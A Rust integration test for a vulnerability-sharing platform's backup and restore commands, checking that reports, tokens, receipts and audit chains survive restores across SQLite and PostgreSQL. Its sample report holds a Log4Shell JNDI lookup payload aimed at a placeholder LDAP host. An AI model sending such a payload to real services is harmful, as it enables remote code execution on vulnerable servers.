//! `vulnshare admin backup` / `restore` end to end: a platform with a submitted report is backed
//! up, restored into a fresh SQLite database (and into PostgreSQL and back when
//! `VULNSHARE_TEST_PG` is set), and the restored platform still knows the report, still accepts
//! the old API token, still verifies the old receipt and its audit chain; filled targets and
//! damaged files are refused with exit code 2.

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;

use common::{BIN, Server};
use serde_json::{Value, json};

fn temp_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!(
        "vulnshare-backup-cli-{}-{name}",
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_nanos()
    ));
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// Runs the binary; returns (exit code, stdout, stderr).
fn run(args: &[&str]) -> (i32, String, String) {
    let out = Command::new(BIN)
        .args(args)
        .env_remove("VULNSHARE_DATABASE_URL")
        .env_remove("VULNSHARE_DATA_DIR")
        .env("RUST_LOG", "warn")
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into(),
        String::from_utf8_lossy(&out.stderr).into(),
    )
}

fn db_args(dir: &Path) -> Vec<String> {
    vec!["--data-dir".into(), dir.display().to_string()]
}

fn with<'a>(args: &[&'a str], db: &'a [String]) -> Vec<&'a str> {
    args.iter()
        .copied()
        .chain(db.iter().map(String::as_str))
        .collect()
}

/// What a restored platform must still do: find the report, accept the old token, verify the
/// old receipt with the same key, and keep an intact audit chain.
fn check_restored(what: &str, db: &[String], report_id: &str, token: &str, receipt: &Value) {
    let (code, out, err) = run(&with(&["audit", "verify", "--json"], db));
    assert_eq!(code, 0, "{what}: audit verify: {out} {err}");
    let server = Server::launch(&db.iter().map(String::as_str).collect::<Vec<_>>());
    let (status, report) = server.call("GET", &format!("/api/v1/reports/{report_id}"), token, None);
    assert_eq!(status, 200, "{what}: {report}");
    assert_eq!(report["report"]["id"], report_id, "{what}");
    let (status, verified) = server.call(
        "POST",
        "/api/v1/receipts/verify",
        token,
        Some(receipt.clone()),
    );
    assert_eq!(status, 200, "{what}: {verified}");
    assert_eq!(verified["valid"], true, "{what}: {verified}");
}

#[test]
fn backup_and_restore_round_trip_on_every_engine() {
    let source = temp_dir("source");
    let (report_id, token, receipt) = {
        let server = Server::start(&source);
        let token = server.token("Alibaba Cloud").to_owned();
        let (status, filed) = server.call(
            "POST",
            "/api/v1/reports?submit=true",
            &token,
            Some(
                json!({"kind": "threat", "title": "Scanning for JNDI callbacks", "tlp": "GREEN",
                "technical_characteristics": "${jndi:ldap://198.51.100.7/a} in User-Agent",
                "aliases": ["CVE-2021-44228"], "aware_at": "2021-12-09T07:00:00Z"}),
            ),
        );
        assert_eq!(status, 201, "{filed}");
        (
            filed["report"]["id"].as_str().unwrap().to_owned(),
            token,
            filed["receipt"].clone(),
        )
    };
    let file = source.join("platform.vsbackup");
    let file_arg = file.display().to_string();
    let source_db = db_args(&source);
    let (code, out, err) = run(&with(&["admin", "backup", &file_arg, "--json"], &source_db));
    assert_eq!(code, 0, "{out} {err}");
    let summary: Value = serde_json::from_str(&out).unwrap();
    assert!(summary["rows"].as_u64().unwrap() > 20, "{summary}");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&file).unwrap().permissions().mode();
        assert_eq!(mode & 0o077, 0, "the backup holds secrets: owner only");
    }

    // Into a fresh SQLite database.
    let copy = db_args(&temp_dir("copy"));
    let (code, out, err) = run(&with(&["admin", "restore", &file_arg], &copy));
    assert_eq!(code, 0, "{out} {err}");
    assert!(out.contains("audit chain OK"), "{out}");
    check_restored("sqlite -> sqlite", &copy, &report_id, &token, &receipt);

    // Not over data, unless forced.
    let (code, out, err) = run(&with(&["admin", "restore", &file_arg], &copy));
    assert_eq!(code, 2, "{out} {err}");
    assert!(
        err.contains("not empty") && err.contains("--force"),
        "{err}"
    );
    let (code, out, err) = run(&with(&["admin", "restore", &file_arg, "--force"], &copy));
    assert_eq!(code, 0, "{out} {err}");

    // A damaged file changes nothing, and does not even create the target.
    let damaged = source.join("damaged.vsbackup");
    let bytes = std::fs::read(&file).unwrap();
    std::fs::write(&damaged, &bytes[..bytes.len() / 2]).unwrap();
    let untouched = temp_dir("untouched");
    let (code, out, err) = run(&with(
        &["admin", "restore", &damaged.display().to_string()],
        &db_args(&untouched),
    ));
    assert_eq!(code, 2, "{out} {err}");
    assert!(err.contains("vulnshare backup"), "{err}");
    assert!(!untouched.join("vulnshare.db").exists());
    let (code, _, err) = run(&with(&["admin", "restore", "/nonexistent/x"], &copy));
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("cannot open /nonexistent/x"), "{err}");

    // SQLite -> PostgreSQL -> SQLite.
    if std::env::var("VULNSHARE_TEST_PG").is_ok() {
        let runtime = tokio::runtime::Runtime::new().unwrap();
        let pg = runtime
            .block_on(vulnshare_store::testing::test_databases())
            .into_iter()
            .find(|d| d.backend == "postgres")
            .unwrap();
        let pg_db = vec!["--database-url".to_owned(), pg.url.clone()];
        let (code, out, err) = run(&with(&["admin", "restore", &file_arg], &pg_db));
        assert_eq!(code, 0, "{out} {err}");
        check_restored("sqlite -> postgres", &pg_db, &report_id, &token, &receipt);
        let from_pg = source.join("from-postgres.vsbackup");
        let from_pg_arg = from_pg.display().to_string();
        let (code, out, err) = run(&with(&["admin", "backup", &from_pg_arg], &pg_db));
        assert_eq!(code, 0, "{out} {err}");
        let back = db_args(&temp_dir("back"));
        let (code, out, err) = run(&with(&["admin", "restore", &from_pg_arg], &back));
        assert_eq!(code, 0, "{out} {err}");
        check_restored("postgres -> sqlite", &back, &report_id, &token, &receipt);
        runtime.block_on(pg.drop());
    }
}
